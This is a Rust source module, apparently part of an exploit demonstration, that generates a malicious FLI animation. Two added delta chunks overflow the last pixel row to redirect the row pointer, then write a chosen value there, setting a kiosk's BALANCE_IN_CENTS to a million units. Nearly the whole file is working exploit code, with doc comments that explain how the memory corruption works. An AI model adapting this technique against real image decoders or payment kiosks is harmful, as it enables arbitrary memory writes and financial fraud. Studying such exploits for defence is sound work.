//! The malicious animation: the honest one, with two chunks more.
//!
//! ```text
//! the decoder's memory      pixels, 320 × 200 bytes             row[0]   row[1] …
//! frame 1, added chunk      last line, skip 255 + 65 ─────────► replace 8 "pixels"
//! frame 2, added chunk      line 0, which begins at row[0]: replace 8 "pixels" there
//! ```
//!
//! The first writes past the end of the last line, onto the pointer behind it.
//! The second draws into the first line, which by then is wherever the file says.

use crate::animation;
use crate::fli::{self, HEIGHT, Packet, WIDTH};

/// The variable of the kiosk that changes.
pub const TARGET: &str = "BALANCE_IN_CENTS";

/// What it changes to in cents: a million units.
const BALANCE: u64 = 100_000_000;

/// The file that writes [`BALANCE`] to `address` while its second frame is decoded.
pub fn malicious(address: u64) -> Vec<u8> {
    let mut frames = animation::frames();
    frames[0].push(point_row_0_to(address));
    frames[1].push(draw_into_row_0(BALANCE));
    fli::file(
        &frames
            .iter()
            .map(|chunks| fli::frame(chunks))
            .collect::<Vec<_>>(),
    )
}

fn point_row_0_to(address: u64) -> Vec<u8> {
    let bytes = address.to_le_bytes();
    let past_the_end = vec![
        Packet {
            skip: 255,
            pixels: &[],
        },
        Packet {
            skip: (WIDTH - 255) as u8,
            pixels: &bytes,
        },
    ];
    fli::delta(HEIGHT - 1, &[past_the_end])
}

fn draw_into_row_0(value: u64) -> Vec<u8> {
    let bytes = value.to_le_bytes();
    fli::delta(
        0,
        &[vec![Packet {
            skip: 0,
            pixels: &bytes,
        }]],
    )
}
